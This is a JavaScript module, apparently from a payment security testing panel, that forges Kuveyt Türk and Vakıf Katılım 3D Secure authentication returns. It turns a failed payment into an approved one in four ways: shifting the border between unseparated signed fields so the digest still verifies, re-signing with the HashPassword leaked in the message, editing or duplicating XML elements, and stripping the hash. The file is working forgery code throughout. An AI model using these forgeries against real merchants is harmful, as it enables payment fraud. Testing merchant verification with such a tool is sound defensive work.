// What a dishonest customer can do to a return of BOA without knowing the key: the digest is over three values that stand next to
// each other without a separator, most of the message is not covered, and the old interface brings the key along.
import { answerHash } from './boa-hash.js';
import { encodeField } from './boa-wire.js';
import { encodeForm, parseForm, valueOf } from './form.js';

const INSIDE = 'AuthenticationResponse';
const SIGNED = ['MerchantOrderId', 'ResponseCode', 'OrderId'];

const isBoa = ({ system }) => system === 'kuveytturk' || system === 'vakifkatilim';
const fieldsOf = (body) => parseForm(Buffer.from(body, 'latin1'));

/** Kuveyt Türk's document inside the form field, or '' where there is none. */
function documentOf(body) {
  const text = valueOf(fieldsOf(body), INSIDE) ?? '';
  return decodeURIComponent(text.replaceAll('+', ' '));
}

/** Elements of the outer level come last, after those of VPosMessage. */
const outer = (name) => new RegExp(`(<${name}>)([^<]*)(</${name}>)(?![\\s\\S]*<${name}>)`);
const anywhere = (name) => new RegExp(`(<${name}>)([^<]*)(</${name}>)`, 'g');
const escaped = (text) => text.replace(/[&<>]/g, (char) => `&#${char.charCodeAt(0)};`);

/** The message as if it were a flat form, whichever of the two it is. */
export function valueIn(message, name) {
  const document = documentOf(message.body);
  if (document) return outer(name).exec(document)?.[2] ?? '';
  return valueOf(fieldsOf(message.body), name) ?? '';
}

/** Other values; null removes one. */
function changed(body, changes) {
  const document = documentOf(body);
  if (document) {
    const text = Object.entries(changes).reduce((all, [name, value]) => replaced(all, name, value), document);
    return encodeForm([[INSIDE, encodeField(text)]]);
  }
  const fields = fieldsOf(body).filter(([name]) => changes[name] !== null);
  const added = Object.entries(changes).filter(([name, value]) => value !== null && valueOf(fields, name) === undefined);
  return encodeForm([...fields.map(([name, value]) => [name, changes[name] ?? value]), ...added]);
}

function replaced(document, name, value) {
  if (value === null) return document.replace(outer(name), '');
  if (!outer(name).test(document)) return document.replace(/<\/\w+>\s*$/, (end) => `<${name}>${escaped(value)}</${name}>${end}`);
  return document.replace(outer(name), (_, start, old, stop) => start + escaped(value) + stop);
}

/** First, so that a reader who takes the first one is deceived; `boa-edit` changes the last one. */
const doubled = (document, name, value) =>
  document.replace(/<VPosTransactionResponseContract[^>]*>/, (start) => `${start}<${name}>${escaped(value)}</${name}>`);

const signedText = (message) => SIGNED.map((name) => valueIn(message, name)).join('');
/** Where '00' could be cut out of the signed text, with something before and behind it. */
const cutOf = (text) => text.slice(1, -1).indexOf('00') + 1;

/** Only a failure with a digest, whose text has a 00 somewhere inside, can be turned into a success that still verifies. */
export const isSignedReturn = (message) => isBoa(message) && valueIn(message, 'ResponseCode') !== '00'
  && valueIn(message, 'HashData') !== '' && cutOf(signedText(message)) > 0;

/** 'VELOPOS0001' + 'MPI…N' + '0' is 'VELOPOS' + '00' + '01MPI…N0' as well. */
export function withShiftedBorder(body) {
  const text = signedText({ body });
  const at = cutOf(text);
  return changed(body, { MerchantOrderId: text.slice(0, at), ResponseCode: '00', OrderId: text.slice(at + 2) });
}

/** The attacks that only these messages know, in the order of the panel. */
export const BOA_ATTACKS = [
  {
    name: 'boa-own-key', tr: 'Mesajdaki HashPassword ile kendin imzala', en: 'Sign it yourself with the HashPassword in the message',
    fits: (message) => isBoa(message) && keyIn(message) !== '',
  },
  {
    name: 'boa-edit', tr: 'Belgenin içindeki bir öğeyi değiştir', en: 'Change an element inside the document',
    fits: (message) => message.system === 'kuveytturk', needs: ['field', 'value'],
  },
  {
    name: 'boa-duplicate', tr: 'Belgenin içine bir öğeyi ikinci kez koy', en: 'Put an element into the document a second time',
    fits: (message) => message.system === 'kuveytturk', needs: ['field', 'value'],
  },
  {
    name: 'boa-approve', tr: 'Onaylanmış gibi göster (imzasız)', en: 'Make it say approved (unsigned)', fits: isBoa,
  },
];

const keyIn = ({ body }) => {
  const document = documentOf(body);
  if (document) return anywhere('HashPassword').exec(document)?.[2] ?? '';
  return valueOf(fieldsOf(body), 'HashPassword') ?? '';
};

/**
 * @param {import('./courier.js').Message} message
 * @param {{ attack: string, field?: string, value?: string }} order
 * @returns {string} the body
 */
export function forgeBoa(message, { attack, field = '', value = '' }) {
  const { body } = message;
  switch (attack) {
    case 'boa-own-key': return changed(body, signedWith(keyIn(message), message));
    case 'boa-edit': return changed(body, { [field]: value });
    case 'boa-duplicate': return encodeForm([[INSIDE, encodeField(doubled(documentOf(body), field, value))]]);
    default: return changed(body, { ResponseCode: '00', ResponseMessage: 'Kart doğrulandı.', OrderId: '155767806', HashData: null });
  }
}

function signedWith(key, message) {
  const [merchantOrderId, orderId] = [valueIn(message, 'MerchantOrderId'), '155767806'];
  return { ResponseCode: '00', OrderId: orderId, HashData: answerHash({ merchantOrderId, responseCode: '00', orderId }, key) };
}
